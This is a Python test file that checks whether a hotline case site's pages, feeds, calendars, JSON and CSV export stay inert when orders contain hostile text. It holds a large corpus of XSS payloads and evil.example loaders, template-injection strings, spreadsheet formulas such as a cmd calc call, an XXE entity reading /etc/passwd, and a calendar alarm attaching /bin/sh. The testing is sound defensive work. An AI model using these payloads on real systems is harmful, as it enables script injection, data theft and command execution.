"""Whatever somebody writes into an order is text: on pages, in feeds, calendars, JSON, sheets.

One order a payload with the payload in every text of every event, once open and once over. The
site that comes of them is held against the site of the same orders with harmless texts: no page
may hold an element or an attribute that is not there too.
"""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from hotline.doors.building import Report
from hotline.doors.site import build
from hotline.procedure.lifecycle import TABLE, Field
from hotline.values.shown import on_terminal
from hotline.values.times import parse_time
from tests.site import sample
from tests.site.conftest import Opened, serve
from tests.site.test_browser import ACTIVE, search
from tests.support import path_of

HIT = "window.__hit=1"

SCRIPT = (
    f"<script>{HIT}</script>", f"<ScRiPt>{HIT}</sCrIpT>", f"<script\n>{HIT}</script\n>",
    f"<script/x>{HIT}</script>", f"</script><script>{HIT}</script>", f"</title><script>{HIT}</script>",
    f"</textarea><script>{HIT}</script>", f"</style><script>{HIT}</script>", f"--><script>{HIT}</script>",
    f"]]><script>{HIT}</script>", f"</svg><script>{HIT}</script>", f"</dd></dl></section><script>{HIT}</script>",
    f"<<script>{HIT}//<</script>", "<script src=//evil.example/x.js></script>",
    "<script type=module>import 'https://evil.example/x.js'</script>",
    f"\"><script>{HIT}</script>", f"'><script>{HIT}</script>", f"`><script>{HIT}</script>",
    f"<noscript><p title=\"</noscript><img src=x onerror={HIT}>\">", f"&lt;script&gt;{HIT}&lt;/script&gt;",
    f"&#60;script&#62;{HIT}&#60;/script&#62;", f"%3Cscript%3E{HIT}%3C/script%3E", f"\\u003cscript\\u003e{HIT}\\u003c/script\\u003e",
)  # fmt: skip
HANDLER = (
    f"<img src=x onerror={HIT}>", f"<img src=x onerror=\"{HIT}\">", f"\"><img src=x onerror={HIT}>",
    f"' onmouseover='{HIT}' x='", f"\" onfocus=\"{HIT}\" autofocus x=\"", f"<svg onload={HIT}>", f"<svg/onload={HIT}//",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>", f"<svg><set onbegin={HIT}>", f"<body onload={HIT}>",
    f"<details open ontoggle={HIT}>x</details>", f"<input autofocus onfocus={HIT}>", f"<select autofocus onfocus={HIT}>",
    f"<video><source onerror={HIT}></video>", f"<audio src=x onerror={HIT}>", f"<marquee onstart={HIT}>x</marquee>",
    f"<xss style=animation-name:x onanimationend={HIT}>", f"<math><mtext><img src=x onerror={HIT}></mtext></math>",
    f"<template><img src=x onerror={HIT}></template>", f"<p/onclick={HIT}>x", f"<a href=x onclick={HIT}>点</a>",
)  # fmt: skip
ADDRESS = (
    f"javascript:{HIT}", f"<a href=javascript:{HIT}>x</a>", f"<a href='java\tscript:{HIT}'>x</a>", f"<a href=\" javascript:{HIT}\">x</a>",
    f"<a href=data:text/html,<script>{HIT}</script>>x</a>", f"<iframe src=javascript:{HIT}></iframe>", "<iframe srcdoc='<script>parent.__hit=1</script>'></iframe>",
    "<object data=//evil.example/x.swf></object>", "<embed src=//evil.example/x.swf>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//evil.example/x.css>", "<form action=//evil.example><button>登录</button></form>",
    "<style>@import '//evil.example/x.css';</style>", "<style>*{display:none}</style>", "<img src=//evil.example/beacon.png>", "<img srcset='//evil.example/b.png 1x'>",
    "<div style='background:url(//evil.example/b.png)'>x</div>", "//evil.example/路径", "https://evil.example/?q=<b>",
)  # fmt: skip
MARKDOWN = (
    f"[点这里](javascript:{HIT})", f"[点]({HIT} \"x\")", "![图](http://evil.example/beacon.png)", "<http://evil.example/auto>", "[x]: http://evil.example/ref\n[x]",
    f"文字{{: onclick={HIT} }}", f"# 标题 {{: #facts onclick={HIT} }}", "--8<-- \"registry/units.yaml\"", "--8<--\nregistry/units.yaml\n--8<--", "```mermaid\ngraph TD; A-->B\n```",
    f"```html\n<script>{HIT}</script>\n```", "| 甲 | 乙 |\n|---|---|\n| <b>丙</b> | 丁 |", "*[HTML]: <b>x</b>\nHTML", "!!! danger\n    x", "??? note\n    x", "[^1]\n\n[^1]: <b>x</b>", "- [ ] 勾\n- [x] 选",
    "---\ntitle: 假\nhide: [navigation]\n---", "~~~~\n</div></div>\n~~~~", "<div markdown=1>\n# 一\n</div>", "\\<b\\>", "<!-- more -->", "<!--<h1>-->", "[[wiki]]", "&copy;&nbsp;&#x202e;",
)  # fmt: skip
TEMPLATE = (
    "{{ 7*7 }}", "{% include 'pages/case.html' %}", "{{ config.items() }}", "{%raw%}{{x}}{%endraw%}", "{# 注 #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{petitioner.__init__.__globals__}", "{party.__class__}", "{0.__class__}", "%(title)s %s %n",
    "HotlineFillBody HotlineFillTitle cases/shell/", "__md_get __md_scope",
)  # fmt: skip
SHEET = (
    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"点\")", "+1+1", "-2+3", "@SUM(1+1)", "＝1＋1", " =1+1", "\"=1+1", "甲\",=1+1,\"乙",
)  # fmt: skip
PROGRAM = (
    "甲\nBEGIN:VALARM\nACTION:PROCEDURE\nATTACH:file:///bin/sh\nEND:VALARM", "甲\nEND:VEVENT\nEND:VCALENDAR", "甲;乙,丙\\n丁:戊", "]]></title><script xmlns='http://www.w3.org/1999/xhtml'>1</script>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;", "\",\"cases\":[],\"x\":\"", "\\\",\\\"x", "</script><!--", "null", "甲\n\n乙\n\n    丙", "a" * 400,
)  # fmt: skip
UNSEEN = (
    "甲\u2028乙", "甲\u2029乙", "\u202e甲乙", "甲\u2066乙\u2069", "甲\u200b乙", "\ufeff甲", "甲\u0085乙", "甲\u061c乙",
)  # fmt: skip
"""Characters that no editor shows; no order may hold them (S004)."""
PAYLOADS = (*SCRIPT, *HANDLER, *ADDRESS, *MARKDOWN, *TEMPLATE, *SHEET, *PROGRAM, *UNSEEN)

ENDING = ("returned_upstream", "terminated", "withdrawn", "closed", "archived", "erasure_approved")
LEFT_OUT = ("erased", "resealed")
"""They need a seal, and hold no text."""
NOW = "2026-10-19T10:00:00+08:00"
ALLOWED = re.compile(r"(?!//)(\.\.?/|#|\?|[A-Za-z0-9%./_~?=&;,:#\u0080-\uffff-]*$)(?!.*evil)")


def filled(field: Field, text: str) -> Any:
    """A value for a field of an event, with the text wherever there may be one."""
    match field.kind:
        case "text":
            return "noise-social" if field.name == "category" else text
        case "texts":
            return [text, text]
        case "unit":
            return "housing-bureau"
        case "units":
            return ["tianchi-street"]
        case "choice":
            return field.choices[0][0]
        case "bool" | "true":
            return True
        case "days":
            return 2
        case "date":
            return "2026-11-30"
        case "time":
            return "2026-10-20T17:00:00+08:00"
        case "statutory":
            return {"law": text, "due_on": "2026-11-30"}
        case "sections":
            return {"demand": text, "findings": text, "handling": text, "communication": text}
        case "delivery":
            return {"method": "phone", "at": "2026-10-13T10:00:00+08:00"}
        case "cases":
            return ["LZ-20261012-0001"]
        case "any":
            return text
    return None


STAGES = {"over": "20261013", "open": "20261014", "waiting": "20261015"}
"""How far an order has come, and the day of its dispatch."""
FIRST = ("accepted", "assigned", "urged", "extension_requested")


def order(number: int, text: str, stage: str) -> dict[str, Any]:
    """An order with one event of each type; those that end it only where it is ``over``.
    One that is ``waiting`` still has its clocks running."""
    day = STAGES[stage]
    at = f"{day[:4]}-{day[4:6]}-{day[6:]}T09:00:00+08:00"
    events = []
    for minute, (name, kind) in enumerate(TABLE.items()):
        if name in LEFT_OUT or (stage != "over" and name in ENDING):
            continue
        if stage == "waiting" and name not in FIRST:
            continue
        values = {each.name: filled(each, text) for each in kind.fields}
        made: dict[str, Any] = {"at": f"{at[:11]}10:{minute:02d}:00+08:00", "by": "hotline-center" if "center" in kind.who else "housing-bureau", "type": name, "note": text}  # fmt: skip
        made |= {key: value for key, value in values.items() if value is not None}
        if name == "assigned":
            made |= {"lead": "housing-bureau", "support": ["tianchi-street"]}
        if name == "extension_requested":
            made.pop("days")  # a law sets the day instead
        if name == "corrected":
            made |= {"field": "location", "value": text}
            made.pop("event", None)
        events.append(made)
    return {
        "id": f"LZ-{day}-{1000 + number}", "channel": "city_web", "platform": text,
        "upstream_id": f"EVIL{day}{number}", "dispatched_at": at, "kind": "complaint",
        "urgency": "emergency" if number % 2 else "normal", "category": "noise-construction",
        "title": text, "demand": text, "location": text,
        "petitioner": {"confidential": False, "anonymous": False}, "events": events,
    }  # fmt: skip


@dataclass(frozen=True, slots=True)
class Made:
    root: Path
    out: Path
    report: Report


def made(root: Path, texts: tuple[str, ...]) -> Made:
    root.mkdir()
    cases = [order(n, text, stage) for n, text in enumerate(texts) for stage in STAGES]
    sample.repository(root, cases)
    for case in cases:
        if case["title"] in UNSEEN:  # YAML would take some of them for line ends
            (root / path_of(case)).write_text(json.dumps(case), "utf-8")
    report = build(root, parse_time(NOW))
    return Made(root, report.out, report)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Made:
    return made(tmp_path_factory.mktemp("hostile") / "data", PAYLOADS)


@pytest.fixture(scope="module")
def plain(tmp_path_factory: pytest.TempPathFactory) -> Made:
    """As many orders, short texts and long ones, one line and several."""
    texts = ("平常", "平常的话" * 60, "两行\n两行\n\n隔一行", "诉求人{petitioner.name}")
    return made(tmp_path_factory.mktemp("plain") / "data", texts * 4)


def test_there_are_enough_of_them() -> None:
    assert len(PAYLOADS) == len(set(PAYLOADS)) >= 120
    used = {f"{n}.{f.name}" for n, k in TABLE.items() if n not in LEFT_OUT for f in k.fields if f.kind in ("text", "texts", "any", "statutory", "sections")}  # fmt: skip
    held = {f"{e['type']}.{name}" for e in order(0, "甲", "over")["events"] for name in e}
    assert used - held == set()


def test_characters_that_nobody_sees_are_shown(hostile: Made) -> None:
    """An order that holds some is faulty (S004), and no file of the site hands them on but the
    JSON, where a program gets what was written."""
    assert hostile.report.unreadable == ()
    for number, text in enumerate(PAYLOADS):
        for day in STAGES.values():
            page = hostile.out / f"cases/LZ-{day}-{1000 + number}/index.html"
            assert ("rules/S004/" in page.read_text("utf-8")) == (text in UNSEEN), text
    for path in hostile.out.rglob("*"):
        if path.suffix in (".html", ".xml", ".ics") or path.name == "search_index.json":
            found = re.search(
                "[\u2028\u2029\u202e\u2066\u200e\u0085\u061c]", path.read_text("utf-8")
            )
            assert not found, (path.name, found)


# --- pages ------------------------------------------------------------------------------


class Structure(HTMLParser):
    """The elements of a page with the names of their attributes, and every address in it."""

    ADDRESSES = frozenset({"href", "src", "action", "formaction", "data", "srcset", "poster", "srcdoc", "xlink:href"})  # fmt: skip

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: set[str] = set()
        self.addresses: set[str] = set()
        self.text: list[str] = []
        self.scripts: list[str] = []
        self._in_script = False
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._in_script = tag in ("script", "style")
        self.elements.add(f"{tag} {' '.join(sorted(name for name, _ in attrs))}")
        self.addresses |= {f"{value}" for name, value in attrs if name in self.ADDRESSES}

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_data(self, data: str) -> None:
        (self.scripts if self._in_script else self.text).append(data)

    def handle_comment(self, data: str) -> None:
        self.elements.add(f"comment {data[:40]}")


def pages(site: Made) -> Iterator[tuple[str, Structure]]:
    for path in sorted(site.out.rglob("*.html")):
        yield path.relative_to(site.out).as_posix(), Structure(path.read_text("utf-8"))


def kind_of(path: str) -> str:
    """Pages of one template are compared with one another."""
    return re.sub(r"^(cases|units|rules)/[^/]+/", r"\1/…/", path)


def test_no_page_holds_an_element_that_plain_orders_do_not_make(hostile: Made, plain: Made) -> None:
    known: dict[str, set[str]] = {}
    for path, page in pages(plain):
        known.setdefault(kind_of(path), set()).update(page.elements)
    everywhere = set().union(*known.values())
    told = []
    for path, page in pages(hostile):
        own = (
            known.get(kind_of(path), set()) if "units/" in path or "cases/" in path else everywhere
        )
        if strange := page.elements - own - {"span class", "details open", "p ", "li "}:
            told.append((path, strange))
        if strange := {a for a in page.addresses if not ALLOWED.match(a)}:
            told.append((path, strange))
        if any("__hit" in script for script in page.scripts):
            told.append((path, {"a script"}))
    assert told == []
    assert hostile.report.broken == ()


def test_every_text_is_shown_as_it_was_written(hostile: Made) -> None:
    """Nothing is lost either: what a petitioner wrote stands on the page, letter by letter."""
    for number, text in enumerate(PAYLOADS):
        for stage, day in STAGES.items():
            path = hostile.out / f"cases/LZ-{day}-{1000 + number}/index.html"
            words = "".join(Structure(path.read_text("utf-8")).text)
            shown = on_terminal(text)
            assert words.count(shown) >= (3 if stage == "waiting" else 12), (
                text,
                words.count(shown),
            )


def test_policy_knows_no_exception(hostile: Made) -> None:
    """Every script between tags is one of the theme's, by its hash."""
    from base64 import b64encode
    from hashlib import sha256

    for path in hostile.out.rglob("*.html"):
        html = path.read_text("utf-8")
        policy = re.findall(r'http-equiv="Content-Security-Policy" content="([^"]+)"', html)
        assert len(policy) == 1, path
        assert "'unsafe-inline'" not in policy[0].split("style-src")[0]
        allowed = set(re.findall(r"'sha256-([^']+)'", policy[0]))
        for opening, script in re.findall(r"<script([^>]*)>(.*?)</script>", html, re.S):
            if "src=" not in opening and "application/json" not in opening:
                assert b64encode(sha256(script.encode()).digest()).decode() in allowed, script


# --- for programs -----------------------------------------------------------------------


def test_json_holds_texts_and_no_more(hostile: Made) -> None:
    told = json.loads((hostile.out / "api/v1/cases.json").read_text("utf-8"))
    by_id = {row["id"]: row for row in told["cases"]}
    assert len(by_id) == 3 * len(PAYLOADS)
    for number, text in enumerate(PAYLOADS):
        row = by_id[f"LZ-20261014-{1000 + number}"]
        assert row["title"] == text
        assert set(row) == set(told["cases"][0])
    index = json.loads((hostile.out / "search/search_index.json").read_text("utf-8"))
    assert not [d for d in index["docs"] if "<" in re.sub(r"<(/?(p|mark|h\d|ul|li|ol|code|pre|table|t[rhd]|thead|tbody|strong|em|br|div|dl|d[dt]))\b[^>]*>", "", d["title"])]  # fmt: skip


PROPERTY = re.compile(r"^([A-Z-]+)[;:]")
OF_CALENDARS = {
    "BEGIN", "END", "VERSION", "PRODID", "CALSCALE", "METHOD", "NAME", "X-WR-CALNAME", "X-WR-TIMEZONE", "UID", "DTSTAMP", "DTSTART", "DTEND", "DUE", "SUMMARY", "DESCRIPTION", "LOCATION", "URL", "CATEGORIES", "STATUS", "TRANSP", "SEQUENCE", "LAST-MODIFIED", "PRIORITY", "CREATED", "REFRESH-INTERVAL", "X-PUBLISHED-TTL", "CLASS",
    "ACTION", "TRIGGER",
}  # fmt: skip


def test_calendars_hold_events_and_no_more(hostile: Made) -> None:
    seen = ""
    for path in (hostile.out / "calendars").glob("*.ics"):
        text = path.read_bytes().decode()
        lines = text.replace("\r\n ", "").split("\r\n")
        assert "\n" not in "".join(lines) and "\r" not in "".join(lines)
        assert {PROPERTY.match(line)[1] for line in lines if line} <= OF_CALENDARS  # type: ignore[index]
        assert lines.count("BEGIN:VEVENT") == lines.count("END:VEVENT")
        assert lines.count("BEGIN:VALARM") <= lines.count("BEGIN:VEVENT")
        assert {line for line in lines if line.startswith(("BEGIN", "END", "ACTION", "TRIGGER"))} <= {
            "BEGIN:VCALENDAR", "END:VCALENDAR", "BEGIN:VEVENT", "END:VEVENT", "BEGIN:VALARM",
            "END:VALARM", "ACTION:DISPLAY", *(line for line in lines if re.match(r"TRIGGER[:;]", line)),
        }  # fmt: skip
        assert all(len(line.encode()) <= 75 for line in text.split("\r\n"))
        seen += "".join(lines)
    assert "LZ-20261015-1000" in seen
    assert (
        "__hit" not in seen
    )  # a calendar goes to phones: it names orders and tells nothing of them


def test_feeds_hold_entries_and_no_more(hostile: Made) -> None:
    atom = "{http://www.w3.org/2005/Atom}"
    names = ("feed", "entry", "id", "title", "updated", "link", "author", "name", "summary")
    titles = ""
    for path in (hostile.out / "feeds").glob("*.xml"):
        feed = ET.fromstring(path.read_bytes())
        assert {each.tag for each in feed.iter()} <= {atom + name for name in names}
        for link in feed.iter(f"{atom}link"):
            assert ALLOWED.match(link.get("href", "")), link.get("href")
        ids = [each.findtext(f"{atom}id") for each in feed.iter(f"{atom}entry")]
        assert len(ids) == len(set(ids))
        titles += "".join(each.text or "" for each in feed.iter(f"{atom}title"))
    for text in PAYLOADS:
        text = on_terminal(text)
        assert " ".join(text.split()) in " ".join(titles.split())


# --- in a browser -----------------------------------------------------------------------


@pytest.fixture
def there(opened: Opened, hostile: Made) -> Iterator[Opened]:
    with serve(hostile.out, opened) as here:
        yield here


@pytest.mark.browser
def test_nothing_runs_in_chromium(there: Opened) -> None:
    shown = ["", "board/", "ledger/", "hot/", "units/", "units/housing-bureau/", "units/hotline-center/", "rules/W033/", "audit/"]  # fmt: skip
    shown += [
        f"cases/LZ-20261014-{1000 + number}/" for number in range(len(PAYLOADS)) if number % 6 == 0
    ]
    shown += [
        f"cases/LZ-20261013-{1000 + number}/" for number in range(len(PAYLOADS)) if number % 6 == 3
    ]
    for path in shown:
        page = there.open(path)
        assert page.evaluate(ACTIVE, None)["bad"] == [], path
        assert page.evaluate("location.pathname") == f"/{path}"
    there.assert_clean()


@pytest.mark.browser
def test_the_table_and_its_sheet_hold_texts(there: Opened, tmp_path: Path) -> None:
    page = there.open("cases/")
    page.wait_for_selector("[data-hl-ready]")
    for _ in range(5):
        assert page.evaluate(ACTIVE, None)["bad"] == []
        page.click("[data-hl-pages] [data-page=next]")
        page.wait_for_timeout(60)
    with page.expect_download() as waiting:
        page.click("[data-hl-csv]")
    waiting.value.save_as(tmp_path / "sheet.csv")
    rows = list(
        csv.reader(
            io.StringIO((tmp_path / "sheet.csv").read_bytes().decode("utf-8-sig"), newline="")
        )
    )
    assert {len(row) for row in rows} == {len(rows[0])}
    assert len(rows) == 1 + 3 * len(PAYLOADS)
    formulas = [cell for row in rows for cell in row if re.match(r"\s*[=+\-@＝＋－＠]", cell)]
    assert formulas == []
    there.assert_clean()


@pytest.mark.browser
def test_found_texts_are_texts(there: Opened) -> None:
    page = there.open("")
    page.click(".md-search__input")
    for words in ("LZ-20261014-1001", "script", "onerror", "evil"):
        page.fill(".md-search__input", "")
        assert search(there, words), words
        assert page.evaluate(ACTIVE, None)["bad"] == [], words
    there.assert_clean()
